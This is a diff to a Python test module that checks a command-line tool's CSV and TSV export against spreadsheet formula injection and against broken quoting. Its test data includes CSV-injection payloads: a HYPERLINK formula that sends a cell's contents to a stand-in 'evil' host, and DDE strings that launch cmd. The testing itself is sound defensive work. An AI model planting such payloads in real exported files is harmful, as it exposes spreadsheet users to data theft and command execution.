@@ -8,6 +8,7 @@ from pathlib import Path
 from .cases import Case, Proof, want
 from .command import run, unharmed
 from .datasets import event, make, quoted
+from .shared import Shared
 
 _ACTIVE = (
     '=HYPERLINK("http://evil/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -18,45 +19,58 @@ _STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
 _QUOTED = ('a","b', 'a"b', "a,b;c\td", "a\nb\r\nc", "'quoted'", "a\\", "\ufeffa")
 
 
+_CELLS = [*_ACTIVE, *_QUOTED]
+
+
+def _record(number: int, cell: str) -> str:
+    words = quoted(cell)
+    return event(
+        f"odd-{number}", title=words, topics=f"[{words}]", place=f"{{name: {words}}}", actors=f"[{words}]"
+    )
+
+
+_SHEET = Shared(lambda folder: make(folder, "".join(_record(*one) for one in enumerate(_CELLS))))
+
+
 def cases() -> Iterator[Case]:
     """Each cell, in each column that takes free text."""
     for number, cell in enumerate(_ACTIVE):
-        yield Case(f"X{number:02}", f"the cell {cell[:20]!r}", _active(cell))
+        yield Case(f"X{number:02}", f"the cell {cell[:20]!r}", _active(f"odd-{number}", cell))
     for number, cell in enumerate(_QUOTED):
-        yield Case(f"X2{number}", f"rows with {cell!r}", _rows(cell))
+        yield Case(f"X2{number}", f"rows with {cell!r}", _rows(f"odd-{len(_ACTIVE) + number}"))
     yield Case("X29", "--raw for what is no csv", _raw)
 
 
-def _table(folder: Path, *options: str) -> list[list[str]]:
-    ended = run(folder, "list", "--format", "csv", *options)
+def _row(key: str, *options: str) -> list[str]:
+    """The row of an event, where all rows are there and have their columns."""
+    ended = _SHEET.piped("list", "--format", "csv", *options)
     unharmed(ended, 0)
-    return list(csv.reader(io.StringIO(ended.out, newline="")))
+    rows = list(csv.reader(io.StringIO(ended.out, newline="")))
+    want(len(rows) == 2 + len(_CELLS), f"{len(rows)} rows")
+    want(
+        {len(row) for row in rows} == {9},
+        f"the columns are not kept: {[row for row in rows if len(row) != 9]}",
+    )
+    return next(row for row in rows if row[0] == key)
 
 
-def _active(cell: str) -> Proof:
-    def prove(folder: Path) -> None:
-        words = quoted(cell)
-        make(
-            folder,
-            event("odd", title=words, topics=f"[{words}]", place=f"{{name: {words}}}", actors=f"[{words}]"),
-        )
-        for row in _table(folder):
-            for one in row:
-                first = one.lstrip("\u200b\ufeff\u00a0 ")[:1]
-                want(not first or first not in _STARTS, f"a spreadsheet would run {one!r}")
+def _active(key: str, cell: str) -> Proof:
+    def prove(_: Path) -> None:
+        for one in _row(key):
+            first = one.lstrip("\u200b\ufeff\u00a0 ")[:1]
+            want(not first or first not in _STARTS, f"a spreadsheet would run {one!r}")
         if cell[0] in "=+-@":
-            want(any(cell in row for row in _table(folder, "--raw")), "--raw does not give the cell as it is")
+            want(cell in _row(key, "--raw"), "--raw does not give the cell as it is")
 
     return prove
 
 
-def _rows(cell: str) -> Proof:
-    def prove(folder: Path) -> None:
-        make(folder, event("odd", title=quoted(cell)))
-        rows = _table(folder)
-        want(len(rows) == 3 and {len(row) for row in rows} == {9}, f"rows and columns are not kept: {rows}")
-        tabbed = run(folder, "list", "--format", "tsv").out
-        want([line.count("\t") for line in tabbed.splitlines()] == [8, 8, 8], f"tsv is not kept: {tabbed!r}")
+def _rows(key: str) -> Proof:
+    def prove(_: Path) -> None:
+        for options in ((), ("--raw",)):
+            want(_row(key, *options)[1:2] == ["2023"], "the columns are shifted")
+        lines = _SHEET.piped("list", "--format", "tsv").out.splitlines()
+        want([line.count("\t") for line in lines] == [8] * (2 + len(_CELLS)), f"tsv is not kept: {lines}")
 
     return prove
 
